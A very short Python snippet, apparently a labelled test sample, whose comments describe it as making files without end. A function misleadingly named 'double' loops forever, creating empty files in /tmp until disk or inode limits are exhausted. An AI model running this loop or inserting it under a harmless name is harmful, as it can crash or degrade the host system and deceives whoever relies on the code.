# Makes files without end.
# Outcome: any but finished
def double(x):
    n = 0
    while True:
        open(f'/tmp/{n}', 'w').close()
        n += 1
